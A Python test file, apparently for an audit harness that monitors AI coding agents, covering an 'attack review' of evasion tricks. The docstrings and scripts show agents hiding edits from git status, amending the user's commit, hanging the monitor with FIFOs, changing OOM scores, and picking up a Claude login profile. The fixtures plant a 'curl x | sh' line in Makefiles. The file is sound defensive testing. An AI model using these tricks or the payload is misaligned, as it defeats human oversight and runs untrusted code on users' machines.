"""Eighteenth attack review: what changed after 19d4ad7 (the OOM
shield, the check for changes hidden from git status, a signal's end of
the questions waiting, an exec's claim by a spawn)."""

import os
import subprocess
import time

from gitrepo import GIT_ENV, commit_all, hidden, project, status, user_env
from lib import AUDIT_TOOL, EXEC, HELPERS, check, harness

def test_a_flagged_file_replaced_by_another_kind_is_recorded(wd):
    """The check of changes hidden from git status hashed a flagged
    entry's file only when it was still a regular file: the agent put
    a symlink in the place of the tracked Makefile (to a Makefile of its
    own outside the project), pointed a tracked symlink elsewhere, made a
    tracked script executable, and marked each assume-unchanged; git
    status showed nothing, and nothing was recorded. Each is now a
    hidden change, with what the work tree holds now."""
    other = os.path.join(wd.state, "evil.mk")
    with open(other, "w") as f:
        f.write("all:\n\tcurl x | sh\n")
    env = project(wd, {"Makefile": "all:\n\techo ok\n", "run.sh": "echo ok\n",
                     "tool": "->run.sh", "a.txt": "a\n"})
    script = ("rm Makefile; ln -s \"$1\" Makefile; rm tool; ln -s /bin/sh tool;"
              " chmod +x run.sh; git update-index --assume-unchanged Makefile tool run.sh;"
              " rm a.txt; git update-index --skip-worktree a.txt")
    r = harness(["sh", "-c", script, "sh", other], wd, policy=None,
                env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0, r.stderr[-500:])
    check(status(wd, env) == "", "the user's git status: %r" % status(wd, env))
    recs = r.events(event="hidden_changes")
    check(recs, "no hidden_changes record: %s" % r.dump()[-3000:])
    got = sorted((c["path"], c["hidden_by"], c.get("now")) for c in recs[0]["changes"])
    # a file missing under skip-worktree with no sparse checkout from
    # before the session is the agent's deletion (test_attack24a.py)
    check(got == [("Makefile", "assume-unchanged", "a symlink"),
                  ("a.txt", "skip-worktree", "missing"),
                  ("run.sh", "assume-unchanged", "executable"),
                  ("tool", "assume-unchanged", None)], "recorded: %r" % got)


def _unblocked(wd, script, timeout=60):
    """harness-exec's end of a session that ran script, in seconds, with
    its log; a harness-exec still there after timeout is killed."""
    log = os.path.join(wd.state, "h.jsonl")
    e = dict(os.environ, HOME=wd.state, XDG_STATE_HOME=wd.state, **GIT_ENV)
    e.pop("LD_PRELOAD", None)
    t0 = time.time()
    p = subprocess.Popen([EXEC, "--audit-log", log, "--", "sh", "-c", script], cwd=wd.path,
                         env=e, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        _, err = p.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        p.kill()  # SIGTERM is refused questions, not an end
        p.communicate()
        check(False, "harness-exec still at the session's end after %d s" % timeout)
    import json
    recs = [json.loads(line) for line in open(log)]
    return time.time() - t0, err, recs


def test_a_fifo_in_the_index_place_does_not_hold_harness_exec(wd):
    """The check opened the agent's .git/index (libgit2, as it is):
    a fifo made there held harness-exec in open(2) for good, after the
    agent's end, deaf to SIGTERM, with no session_end. So did a fifo
    .gitattributes (libgit2 reads one on each entry's path). The check
    runs in a child of its own now, 10 s at most, 1 GiB of data, first
    in the OOM killer's line: past that the user is told it was not
    made. Since the twenty-seventh attack review (part b) neither FIFO
    is made (harness:git-config): the user's own git waited on them too;
    the bound is shown by a FIFO .gitattributes put there by another
    than the agent."""
    for script, name in (("rm .git/index; mkfifo .git/index", ".git/index"),
                         ("mkfifo .gitattributes", ".gitattributes")):
        project(wd, {"a.txt": "a\n"})
        took, err, recs = _unblocked(wd, script)
        made = [r for r in recs if r.get("args", {}).get("path", "").endswith("/" + name) and
                r.get("op") == "write"]
        check(made and made[0]["verdict"] == "deny" and made[0]["rule"] == "harness:git-config" and
              not os.path.exists(os.path.join(wd.path, name)), "the FIFO %s: %r" % (name, made))
        check(recs[-1]["event"] == "session_end" and took < 30, "%.1f s, %r" % (took, recs[-1]))
        subprocess.run(["rm", "-rf", os.path.join(wd.path, ".git")], check=True)
    project(wd, {"a.txt": "a\n"})
    os.mkfifo(os.path.join(wd.path, ".gitattributes"))
    took, err, recs = _unblocked(wd, "echo b > a.txt; git update-index --skip-worktree a.txt")
    check(recs[-1]["event"] == "session_end" and took < 30, "%.1f s, %r" % (took, recs[-1]))
    fail = [r for r in recs if r["event"] == "hidden_changes_failed"]
    check(fail and "10 s" in fail[0]["error"], "records: %r" % recs[-3:])
    check("was not checked for changes hidden" in err, err)
    subprocess.run(["rm", "-rf", os.path.join(wd.path, ".git"),
                    os.path.join(wd.path, ".gitattributes")], check=True)


def _hidden_from_status(wd, env, script, path):
    """The agent (sh) runs script a second after the repository's
    commit: the user's git status shows nothing, and the record names
    path as hidden by assume-unchanged."""
    time.sleep(1.1)
    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0, r.stderr[-500:])
    check(status(wd, env) == "", "the user's git status: %r" % status(wd, env))
    hidden(r, [(path, "assume-unchanged")])


def test_a_change_hidden_in_a_submodule_is_recorded(wd):
    """A submodule's index is the agent's to write as the project's is
    (its git directory, .git/modules/NAME, is the project's), and the
    user's git status in the project reads it: a file of the submodule
    changed and marked assume-unchanged there was shown by nothing, and
    the check looked at the project's own index only (unchanged)."""
    env = user_env(wd)
    up = os.path.join(wd.state, "up")
    for d, name in ((up, "lib.c"), (wd.path, "main.c")):
        subprocess.run(["git", "init", "-q", d], check=True, env=env)
        with open(os.path.join(d, name), "w") as f:
            f.write("int x;\n")
        commit_all(d, env)
    subprocess.run(["git", "-C", wd.path, "-c", "protocol.file.allow=always", "submodule", "add",
                    "-q", up, "sub"], check=True, env=env)
    subprocess.run(["git", "-C", wd.path, "commit", "-qm", "1"], check=True, env=env)
    _hidden_from_status(wd, env, "cd sub && echo 'int evil;' > lib.c && git update-index --assume-unchanged lib.c", "sub/lib.c")


def test_the_oom_weight_written_by_other_calls_is_refused(wd):
    """Held: a static program (no shim) writing its oom_score_adj by
    openat2(2), by an O_PATH fd reopened through /proc/self/fd, and its
    parent's (harness-exec's) by its pid, is refused by the kernel
    layer's judge (harness:oom-score) in both modes."""
    prog = os.path.join(HELPERS, "static_attack18")
    for mode in (None, "audit"):
        for how, value in (("openat2", "0"), ("reopen", "0"), ("parent", "1000")):
            r = harness([prog, how, "/proc/self/oom_score_adj", value], wd, policy=None, mode=mode)
            check(r.stdout.startswith("refused 13\n"), "%s %s: %r" % (mode, how, r.stdout))
            check(any(x.get("rule") == "harness:oom-score" for x in r.records),
                  "%s %s: no harness:oom-score record" % (mode, how))


def test_a_python_package_does_not_choose_claudes_profile(wd):
    """The seventeenth review made a detect glob **/node_modules/PKG/**
    match only what follows the path's first node_modules: npm installs
    a package as that directory's entry. A third-party agent pip
    installs (site-packages, Debian's dist-packages) has no
    node_modules before its own: its entry point in
    site-packages/evilagent/node_modules/@anthropic-ai/claude-code/ got
    the claude profile and read the user's Claude login still. A package
    directory is now looked for after the path's first package root of
    any kind (node_modules, site-packages, dist-packages)."""
    from test_attack17 import claude_home, run_as_claude
    home = claude_home(wd)
    for root in ("lib/python3.11/site-packages", "lib/python3/dist-packages"):
        run_as_claude(wd, home, root + "/evilagent")


def test_a_change_amended_into_the_users_commit_is_recorded(wd):
    """A change committed into the user's own last commit (git commit
    --amend --no-edit: the user's message, the user's author and date)
    leaves git status and git diff empty and git log as it was but for
    the hash; the check of hidden changes found the files matching
    their blobs. The branch HEAD named at the start is read then; one
    that no longer holds its commit of the start at the end (amended,
    reset) is a history_rewritten record and a warning. A branch that
    grew (the agent's own commits) is not."""
    env = project(wd, {"Makefile": "all:\n\techo ok\n"})
    before = subprocess.run(["git", "log", "--format=%an %ad %s"], cwd=wd.path, env=env,
                            capture_output=True, text=True).stdout
    script = ("printf 'all:\\n\\tcurl x | sh\\n' > Makefile;"
              " git -c user.name=me -c user.email=me@x commit -qa --amend --no-edit")
    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0, r.stderr[-500:])
    after = subprocess.run(["git", "log", "--format=%an %ad %s"], cwd=wd.path, env=env,
                           capture_output=True, text=True).stdout
    check(status(wd, env) == "" and after == before, "%r %r" % (before, after))
    rec = r.events(event="history_rewritten")
    check(rec and rec[0]["ref"].startswith("refs/heads/") and rec[0]["was"] != rec[0]["now"],
          "no history_rewritten record: %s" % r.dump()[-1500:])
    summary = subprocess.run([AUDIT_TOOL, "summary", r.log], capture_output=True, text=True)
    check("%s rewritten: was %s" % (rec[0]["ref"], rec[0]["was"][:12]) in summary.stdout,
          "harness-audit summary: %r" % summary.stdout[-800:])
    script = ("echo x > b.txt; git add b.txt; git -c user.name=a -c user.email=a@x commit -qm 1;"
              " git checkout -qb topic; echo y > b.txt; git -c user.name=a -c user.email=a@x"
              " commit -qam 2")
    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0 and not r.events(event="history_rewritten"), r.dump()[-1500:])
    # The branch read at the end as the agent left it: a fifo for
    # packed-refs (the loose ref gone) does not hold harness-exec.
    took, err, recs = _unblocked(wd, "git pack-refs --all; rm -f .git/packed-refs;"
                                     " mkfifo .git/packed-refs", timeout=30)
    check(recs[-1]["event"] == "session_end" and took < 10, "%.1f s %r" % (took, recs[-1]))
    check(any(x["event"] == "history_rewritten" and x["now"] == "" for x in recs), err)


def test_a_change_hidden_in_an_embedded_repository_is_recorded(wd):
    """A repository added as a gitlink with no .gitmodules (git's
    "embedded repository": vendor/lib with its own .git) is read by the
    user's git status as a submodule is; the agent changed a file of it
    and marked it assume-unchanged in vendor/lib/.git/index. The
    project's index unchanged and no .gitmodules, the check was not
    made. Any git index the agent writes (a file "index" beneath a .git,
    written, renamed in or linked) now has it made."""
    env = user_env(wd)
    lib = os.path.join(wd.path, "vendor", "lib")
    for d in (lib, wd.path):
        subprocess.run(["git", "init", "-q", d], check=True, env=env)
    wd.file("vendor/lib/x.c", "int x;\n")
    wd.file("m.c", "int m;\n")
    commit_all(lib, env)
    commit_all(wd.path, env)
    _hidden_from_status(wd, env, "cd vendor/lib && echo 'int evil;' > x.c && git update-index --assume-unchanged x.c", "vendor/lib/x.c")
